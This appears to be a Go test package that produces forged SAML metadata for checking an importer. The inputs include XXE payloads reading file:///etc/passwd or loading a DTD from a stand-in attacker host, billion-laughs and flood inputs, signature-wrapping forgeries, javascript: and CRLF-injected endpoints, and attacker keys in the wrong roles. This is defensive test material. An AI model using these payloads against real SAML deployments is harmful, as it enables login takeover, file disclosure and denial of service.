package samltest

import (
	"encoding/base64"
	"slices"
	"strings"
	"time"

	"github.com/beevik/etree"
	saml "github.com/logintrust/saml"
)

// MetadataAttack is metadata by which an attacker would like to get a say: her key among those that are pinned, her site where
// logins go, or no answer from the importer at all.
type MetadataAttack struct {
	Name      string // unique among all attacks on metadata
	Class     Class
	Reference string // specification, CVE or paper

	// Signed says that the importer is given the key of a federation that signs, and must believe nothing else.
	Signed bool
	// Base is the honest metadata that the attack starts from, which must be imported; nil: the IdP's own, signed by the
	// federation if the attack is about that.
	Base func(s *MetadataScene) []byte
	// Forge makes the metadata of the attack.
	Forge func(s *MetadataScene) []byte
	// Won says whether a trust that was made of it has what the attacker wants. nil: nothing may be imported. Her key, an entity
	// ID that was not asked for, and addresses without https count in any case.
	Won func(s *MetadataScene, got saml.LoginTrust) bool
	// Bounded says that it may be imported, if only there is an answer in time.
	Bounded bool
}

// MetadataScene is where an attack on an import takes place.
type MetadataScene struct {
	IdP        *IdP // whose metadata is imported
	Mallory    Seal // the attacker's key, in a certificate that bears the IdP's name
	Federation Seal // who signs
}

// MetadataAttacks are all attacks on the import of metadata.
func MetadataAttacks() []MetadataAttack {
	all := slices.Concat(metadataParsingAttacks(), metadataRoleAttacks(), metadataEndpointAttacks(), metadataSignatureAttacks(), metadataFloods())
	for i := range all {
		all[i].Class = Metadata
	}
	return all
}

// base is the honest metadata that the attack starts from.
func (a MetadataAttack) base(s *MetadataScene) []byte {
	switch {
	case a.Base != nil:
		return a.Base(s)
	case a.Signed:
		return s.signed(func(_, _ *etree.Element) {})
	}
	return s.written(func(_, _ *etree.Element) {})
}

// root is the IdP's descriptor, and its role in it.
func (s *MetadataScene) root() (root, role *etree.Element) {
	root = s.IdP.descriptor()
	return root, find(root, nsMetadata, "IDPSSODescriptor")
}

// written is the metadata with a change.
func (s *MetadataScene) written(change func(root, role *etree.Element)) []byte {
	root, role := s.root()
	change(root, role)
	return serialize(root, true)
}

// signed is the metadata, changed and then signed by the federation.
func (s *MetadataScene) signed(change func(root, role *etree.Element)) []byte {
	return serialize(s.sealed(s.Federation, change), true)
}

// sealed is the tree of the metadata, changed and then signed.
func (s *MetadataScene) sealed(seal Seal, change func(root, role *etree.Element)) *etree.Element {
	root, role := s.root()
	root.CreateAttr("ID", newID())
	change(root, role)
	mustSeal(seal, root)
	return root
}

func mustSeal(seal Seal, el *etree.Element) {
	if err := seal.Enveloped(el); err != nil {
		panic("samltest: sign metadata: " + err.Error()) // keys of this package
	}
}

// aggregate puts entities into an EntitiesDescriptor.
func aggregate(entities ...*etree.Element) *etree.Element {
	root := etree.NewElement("md:EntitiesDescriptor")
	root.CreateAttr("xmlns:md", nsMetadata)
	root.CreateAttr("ID", newID())
	for _, el := range entities {
		root.AddChild(el)
	}
	return root
}

// takenOver is the IdP's descriptor with the attacker's key in the place of its own.
func (s *MetadataScene) takenOver() *etree.Element {
	root, role := s.root()
	role.FindElement(".//X509Certificate").SetText(encode(s.Mallory.Certificate))
	return root
}

// addMallory gives a role the attacker's key.
func (s *MetadataScene) addMallory(role *etree.Element, use string) *etree.Element {
	s.IdP.addKey(role, use, s.Mallory.Certificate)
	descriptor := role.ChildElements()[len(role.ChildElements())-1]
	prefix(descriptor, "md")
	return descriptor
}

func metadataParsingAttacks() (list []MetadataAttack) {
	add := func(name, reference string, edit func(xml string) string) {
		list = append(list, MetadataAttack{Name: name, Reference: reference, Forge: func(s *MetadataScene) []byte {
			return []byte(edit(string(s.written(func(_, _ *etree.Element) {}))))
		}})
	}
	behindDeclaration := func(text string) func(string) string {
		return func(xml string) string { return strings.Replace(xml, "?>", "?>"+text, 1) }
	}
	inKey := func(dtd, text string) func(string) string {
		return func(xml string) string {
			return strings.Replace(behindDeclaration(dtd)(xml), "<ds:X509Certificate>", "<ds:X509Certificate>"+text, 1)
		}
	}
	const xxe = "OWASP XXE, CWE-611"
	add("DOCTYPE", xxe, behindDeclaration(`<!DOCTYPE md:EntityDescriptor>`))
	add("DOCTYPE with a default attribute", xxe, behindDeclaration(`<!DOCTYPE x [<!ATTLIST md:KeyDescriptor use CDATA "signing">]>`))
	add("internal entity", xxe, inKey(`<!DOCTYPE x [<!ENTITY e "">]>`, "&e;"))
	add("external entity", xxe, inKey(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, "&e;"))
	add("external DTD", xxe+"; SSRF", behindDeclaration(`<!DOCTYPE x SYSTEM "http://`+evilHost+`/x.dtd">`))
	add("parameter entity", xxe, behindDeclaration(`<!DOCTYPE x [<!ENTITY % e SYSTEM "http://`+evilHost+`/x.dtd"> %e;]>`))
	add("billion laughs", "CVE-2003-1564", inKey(laughs(), "&l9;"))
	add("two roots", "XML 1.0, 2.1", func(xml string) string { return xml + "<md:EntityDescriptor/>" })
	add("duplicate entityID", "XML 1.0, 3.1 WFC: Unique Att Spec", func(xml string) string {
		return strings.Replace(xml, " entityID=", ` entityID="https://`+evilHost+`" entityID=`, 1)
	})
	add("entityID in another namespace", "Namespaces in XML 6.2", func(xml string) string {
		return strings.Replace(xml, " entityID=", ` xmlns:x="urn:x" x:entityID=`, 1)
	})
	add("cut off", "XML 1.0, 2.1", func(xml string) string { return xml[:len(xml)-10] })
	add("elements of another namespace", "Namespaces in XML 6.2", func(xml string) string { return strings.Replace(xml, nsMetadata, nsMetadata+"x", 1) })
	add("a page of HTML", "none: what a URL gives that moved", func(string) string { return "<!DOCTYPE html><html><body>Sign in</body></html>" })
	return append(list,
		MetadataAttack{Name: "expired", Reference: "SAML Metadata 2.3.2", Forge: func(s *MetadataScene) []byte {
			return s.written(func(root, _ *etree.Element) { root.CreateAttr("validUntil", s.IdP.In(-time.Hour)) })
		}},
		MetadataAttack{Name: "role expired", Reference: "SAML Metadata 2.4.1", Forge: func(s *MetadataScene) []byte {
			return s.written(func(_, role *etree.Element) { role.CreateAttr("validUntil", s.IdP.In(-time.Hour)) })
		}},
		MetadataAttack{Name: "aggregate around it expired", Reference: "SAML Metadata 2.3.1", Forge: func(s *MetadataScene) []byte {
			entity, _ := s.root()
			around := aggregate(entity)
			around.CreateAttr("validUntil", s.IdP.In(-time.Hour))
			return serialize(around, true)
		}},
		MetadataAttack{Name: "validUntil that is no time", Reference: "SAML Core 1.3.3", Forge: func(s *MetadataScene) []byte {
			return s.written(func(root, _ *etree.Element) { root.CreateAttr("validUntil", "for ever") })
		}},
	)
}

// metadataRoleAttacks put keys where they must not count.
func metadataRoleAttacks() []MetadataAttack {
	const roles = "SAML Metadata 2.4: keys are of a role"
	moved := func(name, tag string) MetadataAttack {
		return MetadataAttack{Name: "no identity provider but " + name, Reference: roles, Forge: func(s *MetadataScene) []byte {
			return s.written(func(_, role *etree.Element) { role.Tag = tag })
		}}
	}
	beside := func(name, tag string) MetadataAttack {
		return MetadataAttack{Name: "the attacker's key in the role of " + name, Reference: roles, Won: nothingMore, Forge: func(s *MetadataScene) []byte {
			return s.written(func(root, role *etree.Element) {
				other := etree.NewElement("md:" + tag)
				other.CreateAttr("protocolSupportEnumeration", nsProtocol)
				s.addMallory(other, "signing")
				root.InsertChildAt(role.Index(), other)
			})
		}}
	}
	inRole := func(name, reference string, edit func(s *MetadataScene, root, role *etree.Element)) MetadataAttack {
		return MetadataAttack{Name: name, Reference: reference, Won: nothingMore, Forge: func(s *MetadataScene) []byte {
			return s.written(func(root, role *etree.Element) { edit(s, root, role) })
		}}
	}
	return []MetadataAttack{
		moved("a service provider", "SPSSODescriptor"), moved("an attribute authority", "AttributeAuthorityDescriptor"),
		moved("a policy decision point", "PDPDescriptor"), moved("an authentication authority", "AuthnAuthorityDescriptor"),
		moved("an affiliation", "AffiliationDescriptor"),
		beside("a service provider", "SPSSODescriptor"), beside("an attribute authority", "AttributeAuthorityDescriptor"),
		beside("a policy decision point", "PDPDescriptor"), beside("an authentication authority", "AuthnAuthorityDescriptor"),
		beside("none that is known", "RoleDescriptor"),
		inRole("the attacker's key for encryption", "SAML Metadata 2.4.1.1", func(s *MetadataScene, _, role *etree.Element) { s.addMallory(role, "encryption") }),
		{Name: "no key but one for encryption", Reference: "SAML Metadata 2.4.1.1", Forge: func(s *MetadataScene) []byte {
			return s.written(func(_, role *etree.Element) {
				role.FindElement("./KeyDescriptor[@use='signing']").CreateAttr("use", "encryption")
			})
		}},
		{Name: "no key at all", Reference: "SAML Metadata 2.4.1.1", Forge: func(s *MetadataScene) []byte {
			return s.written(func(_, role *etree.Element) {
				for _, key := range role.SelectElements("KeyDescriptor") {
					role.RemoveChild(key)
				}
			})
		}},
		inRole("the attacker's key in the role's Extensions", "SAML Metadata 2.4.1", func(s *MetadataScene, _, role *etree.Element) {
			s.addMallory(place(role, 0, "Extensions"), "signing")
		}),
		inRole("the attacker's role in the entity's Extensions", "SAML Metadata 2.3.2", func(s *MetadataScene, root, _ *etree.Element) {
			_, evil := s.root()
			s.addMallory(evil, "signing")
			place(root, 0, "Extensions", evil)
		}),
		inRole("the attacker's role in another namespace", "Namespaces in XML 6.1", func(s *MetadataScene, root, role *etree.Element) {
			evil := role.Copy()
			evil.CreateAttr("xmlns:md", "urn:x")
			s.addMallory(evil, "signing")
			root.InsertChildAt(role.Index(), evil)
		}),
		inRole("the attacker's role for SAML 1.1", "SAML Metadata 2.4.1: protocolSupportEnumeration", func(s *MetadataScene, root, role *etree.Element) {
			evil := role.Copy()
			evil.CreateAttr("protocolSupportEnumeration", "urn:oasis:names:tc:SAML:1.1:protocol")
			s.addMallory(evil, "signing")
			root.InsertChildAt(role.Index(), evil)
		}),
		inRole("the attacker's role in a comment", "XML 1.0, 2.5", func(s *MetadataScene, root, role *etree.Element) {
			evil, _ := etree.NewDocumentWithRoot(s.takenOver()).WriteToString()
			root.InsertChildAt(role.Index(), etree.NewComment(evil))
		}),
		inRole("the attacker's KeyValue beside the certificate", "XML Signature 4.5", func(s *MetadataScene, _, role *etree.Element) {
			info := role.FindElement("./KeyDescriptor/KeyInfo")
			value := Seal{Key: s.Mallory.Key, KeyValue: true, Prefix: "ds"}
			carrier := etree.NewElement("ds:Signature")
			value.addKeyInfo(carrier)
			info.AddChild(carrier.FindElement("./KeyInfo/KeyValue"))
		}),
		{Name: "another entity only", Reference: "SAML Metadata 2.3.2", Forge: func(s *MetadataScene) []byte {
			return s.written(func(root, _ *etree.Element) { root.CreateAttr("entityID", "https://"+evilHost+"/metadata") })
		}},
		{Name: "the entity's name in capitals", Reference: "SAML Metadata 2.2.1: compared as they are", Forge: func(s *MetadataScene) []byte {
			return s.written(func(root, _ *etree.Element) { root.CreateAttr("entityID", strings.ToUpper(s.IdP.EntityID)) })
		}},
		{Name: "the entity's name with a slash", Reference: "SAML Metadata 2.2.1: compared as they are", Forge: func(s *MetadataScene) []byte {
			return s.written(func(root, _ *etree.Element) { root.CreateAttr("entityID", s.IdP.EntityID+"/") })
		}},
		{Name: "the entity twice, the attacker's first", Reference: "SAML Metadata 2.3.1", Forge: func(s *MetadataScene) []byte {
			genuine, _ := s.root()
			return serialize(aggregate(s.takenOver(), genuine), true)
		}},
		{Name: "the entity twice, the attacker's last", Reference: "SAML Metadata 2.3.1", Forge: func(s *MetadataScene) []byte {
			genuine, _ := s.root()
			return serialize(aggregate(genuine, aggregate(s.takenOver())), true)
		}},
		inRole("scopes that the IdP chose itself", "SAML V2.0 Deployment Profile, SDP-SP17", func(_ *MetadataScene, _, role *etree.Element) {
			scope := place(role, 0, "Extensions").CreateElement("shibmd:Scope")
			scope.CreateAttr("xmlns:shibmd", "urn:mace:shibboleth:metadata:1.0")
			scope.SetText("everybody.example.net")
		}),
		inRole("signs that change the text around them, in the name", "CVE-2021-42574", func(_ *MetadataScene, _, role *etree.Element) {
			ui := place(role, 0, "Extensions").CreateElement("mdui:UIInfo")
			ui.CreateAttr("xmlns:mdui", "urn:oasis:names:tc:SAML:metadata:ui")
			name := ui.CreateElement("mdui:DisplayName")
			name.CreateAttr("xml:lang", "en")
			name.SetText("Example\u202e\nelpmaxE")
		}),
	}
}

// nothingMore: what counts in any case, and what is in the trust for no good reason.
func nothingMore(_ *MetadataScene, got saml.LoginTrust) bool {
	return len(got.Scopes) > 0 || strings.ContainsAny(got.Description, "\u202e\n")
}

func metadataEndpointAttacks() (list []MetadataAttack) {
	for _, evil := range []struct{ name, location string }{
		{"without https", "http://idp.example.com/sso"}, {"that is javascript", "javascript:alert(1)"}, {"that is javascript in mixed case", "JavaScript:alert(1)"},
		{"that is data", "data:text/html,x"}, {"that is a file", "file:///etc/passwd"}, {"by ftp", "ftp://idp.example.com/sso"},
		{"that is relative", "/sso"}, {"without a scheme", "//" + evilHost + "/sso"}, {"without a host", "https:///sso"}, {"that is opaque", "https:sso"},
		{"with a newline", "https://idp.example.com/sso\nLocation: https://" + evilHost}, {"with backslashes", `https:\\` + evilHost + `\sso`},
		{"with user information", "https://idp.example.com@" + evilHost + "/sso"},
	} {
		for _, tag := range []string{"SingleSignOnService", "SingleLogoutService"} {
			list = append(list, MetadataAttack{Name: tag + " " + evil.name, Reference: "CWE-601, CWE-79", Won: func(_ *MetadataScene, got saml.LoginTrust) bool {
				return slices.Contains(addresses(got), evil.location)
			}, Forge: func(s *MetadataScene) []byte {
				return s.written(func(_, role *etree.Element) {
					for _, el := range role.SelectElements(tag) {
						el.CreateAttr("Location", evil.location)
					}
				})
			}})
		}
		list = append(list, MetadataAttack{Name: "page for errors " + evil.name, Reference: "CWE-79", Won: func(_ *MetadataScene, got saml.LoginTrust) bool {
			return got.ErrorURL == evil.location
		}, Forge: func(s *MetadataScene) []byte {
			return s.written(func(_, role *etree.Element) { role.CreateAttr("errorURL", evil.location) })
		}})
	}
	return append(list, MetadataAttack{Name: "answers to logouts go elsewhere, without https", Reference: "SAML Metadata 2.2.2",
		Won: nothingMore, Forge: func(s *MetadataScene) []byte {
			return s.written(func(_, role *etree.Element) {
				for _, el := range role.SelectElements("SingleLogoutService") {
					el.CreateAttr("ResponseLocation", "http://"+evilHost+"/slo")
				}
			})
		}})
}

// metadataSignatureAttacks are about metadata that a federation signs.
func metadataSignatureAttacks() (list []MetadataAttack) {
	const wrapping = "Somorovsky et al. (USENIX Security 2012), on metadata"
	const signing = "SAML Metadata 3"
	add := func(name, reference string, forge func(s *MetadataScene) *etree.Element) {
		list = append(list, MetadataAttack{Name: name, Reference: reference, Signed: true, Forge: func(s *MetadataScene) []byte { return serialize(forge(s), true) }})
	}
	nothing := func(_, _ *etree.Element) {}
	tampered := func(name string, edit func(s *MetadataScene, root, role *etree.Element)) {
		add(name, "SAML Metadata 3.1", func(s *MetadataScene) *etree.Element {
			root := s.sealed(s.Federation, nothing)
			edit(s, root, find(root, nsMetadata, "IDPSSODescriptor"))
			return root
		})
	}
	add("unsigned", signing, func(s *MetadataScene) *etree.Element { root, _ := s.root(); return root })
	add("signed by the attacker", signing, func(s *MetadataScene) *etree.Element { return s.sealed(s.Mallory, nothing) })
	add("signed by the identity provider itself", signing, func(s *MetadataScene) *etree.Element { return s.sealed(s.IdP.Seal(), nothing) })
	add("signed by the attacker, with the federation's certificate", "SAML Metadata 3.1", func(s *MetadataScene) *etree.Element {
		seal := s.Mallory
		seal.Certificate = s.Federation.Certificate
		return s.sealed(seal, nothing)
	})
	add("signed with SHA-1", "SHAttered", func(s *MetadataScene) *etree.Element {
		seal := s.Federation
		seal.Method, seal.Digest = RSASHA1, SHA1
		return s.sealed(seal, nothing)
	})
	add("signed and expired", "SAML Metadata 2.3.2", func(s *MetadataScene) *etree.Element {
		return s.sealed(s.Federation, func(root, _ *etree.Element) { root.CreateAttr("validUntil", s.IdP.In(-time.Hour)) })
	})
	tampered("signature taken away", func(_ *MetadataScene, root, _ *etree.Element) { root.RemoveChild(signatureOf(root)) })
	tampered("signature value emptied", func(_ *MetadataScene, root, _ *etree.Element) {
		root.FindElement("./Signature/SignatureValue").SetText("")
	})
	tampered("key changed behind the signature", func(s *MetadataScene, _, role *etree.Element) {
		role.FindElement(".//X509Certificate").SetText(encode(s.Mallory.Certificate))
	})
	tampered("key added behind the signature", func(s *MetadataScene, _, role *etree.Element) {
		key := s.addMallory(role, "signing")
		role.RemoveChild(key)
		role.InsertChildAt(0, key)
	})
	tampered("address changed behind the signature", func(_ *MetadataScene, _, role *etree.Element) {
		role.SelectElement("SingleSignOnService").CreateAttr("Location", "https://"+evilHost+"/sso")
	})
	tampered("validUntil put off behind the signature", func(s *MetadataScene, root, _ *etree.Element) { root.CreateAttr("validUntil", s.IdP.In(time.Hour)) })
	tampered("signature behind the role", func(_ *MetadataScene, root, _ *etree.Element) {
		signature := signatureOf(root)
		root.RemoveChild(signature)
		root.AddChild(signature)
	})
	tampered("signature in the Extensions", func(_ *MetadataScene, root, _ *etree.Element) {
		signature := signatureOf(root)
		root.RemoveChild(signature)
		place(root, 0, "Extensions", signature)
	})
	tampered("two signatures", func(s *MetadataScene, root, _ *etree.Element) { mustSeal(s.Mallory, root) })

	wrapped := func(name string, wrap func(s *MetadataScene, genuine *etree.Element) *etree.Element) {
		add(name, wrapping, func(s *MetadataScene) *etree.Element { return wrap(s, s.sealed(s.Federation, nothing)) })
	}
	wrapped("signed entity in the Extensions of a forged one", func(s *MetadataScene, genuine *etree.Element) *etree.Element {
		evil := s.takenOver()
		place(evil, 0, "Extensions", genuine)
		return evil
	})
	wrapped("signed entity in the Extensions of a forged one that bears its signature", func(s *MetadataScene, genuine *etree.Element) *etree.Element {
		evil := s.takenOver()
		signature := signatureOf(genuine)
		genuine.RemoveChild(signature)
		evil.AddChild(signature)
		place(evil, 0, "Extensions", genuine)
		evil.RemoveChild(signature)
		evil.InsertChildAt(0, signature)
		return evil
	})
	wrapped("signed entity in an Object of its signature in a forged one", func(s *MetadataScene, genuine *etree.Element) *etree.Element {
		evil := s.takenOver()
		signature := signatureOf(genuine)
		genuine.RemoveChild(signature)
		place(signature, len(signature.Child), "Object", genuine)
		evil.InsertChildAt(0, signature)
		return evil
	})
	wrapped("forged entity with the ID and the signature of the signed one", func(s *MetadataScene, genuine *etree.Element) *etree.Element {
		evil := s.takenOver()
		evil.CreateAttr("ID", genuine.SelectAttrValue("ID", ""))
		evil.InsertChildAt(0, signatureOf(genuine).Copy())
		return evil
	})
	wrapped("forged entity beside the signed one, in an unsigned aggregate", func(s *MetadataScene, genuine *etree.Element) *etree.Element {
		return aggregate(s.takenOver(), genuine)
	})
	wrapped("signed entity beside the forged one, in an unsigned aggregate", func(s *MetadataScene, genuine *etree.Element) *etree.Element {
		return aggregate(genuine, s.takenOver())
	})
	wrapped("forged aggregate that bears the signature of an entity", func(s *MetadataScene, genuine *etree.Element) *etree.Element {
		signature := signatureOf(genuine)
		genuine.RemoveChild(signature)
		evil := aggregate(s.takenOver(), genuine)
		evil.InsertChildAt(0, signature)
		return evil
	})

	aggregated := func(name string, edit func(s *MetadataScene, root, entity *etree.Element)) {
		base := func(s *MetadataScene) *etree.Element {
			entity, _ := s.root()
			root := aggregate(entity)
			mustSeal(s.Federation, root)
			return root
		}
		list = append(list, MetadataAttack{Name: name, Reference: "SAML Metadata 2.3.1", Signed: true,
			Base: func(s *MetadataScene) []byte { return serialize(base(s), true) },
			Forge: func(s *MetadataScene) []byte {
				root := base(s)
				edit(s, root, find(root, nsMetadata, "EntityDescriptor"))
				return serialize(root, true)
			}})
	}
	aggregated("entity in a signed aggregate changed", func(s *MetadataScene, _, entity *etree.Element) { become(entity, s.takenOver()) })
	aggregated("entity added to a signed aggregate", func(s *MetadataScene, root, _ *etree.Element) { root.AddChild(s.takenOver()) })
	aggregated("signed aggregate in a forged one", func(s *MetadataScene, root, _ *etree.Element) {
		genuine := root.Copy()
		become(root, aggregate(s.takenOver(), genuine))
	})
	aggregated("entity taken out of a signed aggregate", func(_ *MetadataScene, root, entity *etree.Element) { become(root, entity.Copy()) })
	aggregated("the attacker's entity in the aggregate's Extensions", func(s *MetadataScene, root, _ *etree.Element) { place(root, 1, "Extensions", s.takenOver()) })
	return list
}

// metadataFloods cost more to read than to send.
func metadataFloods() (list []MetadataAttack) {
	add := func(name string, bounded bool, edit func(s *MetadataScene) string) {
		list = append(list, MetadataAttack{Name: name, Reference: "CWE-400", Bounded: bounded, Forge: func(s *MetadataScene) []byte { return []byte(edit(s)) }})
	}
	inRole := func(text string) func(s *MetadataScene) string {
		return func(s *MetadataScene) string {
			xml := string(s.written(func(_, _ *etree.Element) {}))
			at := strings.Index(xml, "<md:KeyDescriptor")
			return xml[:at] + text + xml[at:]
		}
	}
	extensions := func(text string) func(s *MetadataScene) string {
		return inRole("<md:Extensions>" + text + "</md:Extensions>")
	}
	add("100,000 attributes", false, extensions("<x"+numbered(100_000, ` a%d=""`)+"/>"))
	add("100,000 namespaces", false, extensions("<x"+numbered(100_000, ` xmlns:a%[1]d="urn:%[1]d"`)+"/>"))
	add("100,000 levels", false, extensions(strings.Repeat("<x>", 100_000)+strings.Repeat("</x>", 100_000)))
	add("10,000 aggregates, one in the other", false, func(s *MetadataScene) string {
		entity, _ := s.root()
		return strings.Repeat(`<md:EntitiesDescriptor xmlns:md="`+nsMetadata+`">`, 10_000) + string(serialize(entity, false)) + strings.Repeat("</md:EntitiesDescriptor>", 10_000)
	})
	add("100 aggregates, one in the other", false, func(s *MetadataScene) string {
		entity, _ := s.root()
		return strings.Repeat(`<md:EntitiesDescriptor xmlns:md="`+nsMetadata+`">`, 100) + string(serialize(entity, false)) + strings.Repeat("</md:EntitiesDescriptor>", 100)
	})
	add("a name of 1 MB", false, extensions("<"+strings.Repeat("x", 1<<20)+"/>"))
	add("an entityID of 1 MB", false, func(s *MetadataScene) string {
		return string(s.written(func(root, _ *etree.Element) { root.CreateAttr("entityID", s.IdP.EntityID+strings.Repeat("x", 1<<20)) }))
	})
	add("10 MB of text", true, extensions("<x>"+strings.Repeat("x", 10<<20)+"</x>"))
	add("20,000 keys that cannot be read", true, inRole(strings.Repeat(`<md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="`+nsSignature+`"><ds:X509Data><ds:X509Certificate>AAAA</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`, 20_000)))
	add("5,000 certificates in one key", true, func(s *MetadataScene) string {
		return string(s.written(func(_, role *etree.Element) {
			data := role.FindElement(".//X509Data")
			copies(data, data.ChildElements()[0], 5_000, nil)
		}))
	})
	add("20,000 addresses", true, func(s *MetadataScene) string {
		return string(s.written(func(_, role *etree.Element) {
			copies(role, role.SelectElement("SingleSignOnService"), 20_000, nil)
		}))
	})
	add("a certificate of 2 MB", true, func(s *MetadataScene) string {
		return string(s.written(func(_, role *etree.Element) {
			role.FindElement(".//X509Certificate").SetText(base64.StdEncoding.EncodeToString(make([]byte, 2<<20)))
		}))
	})
	return list
}
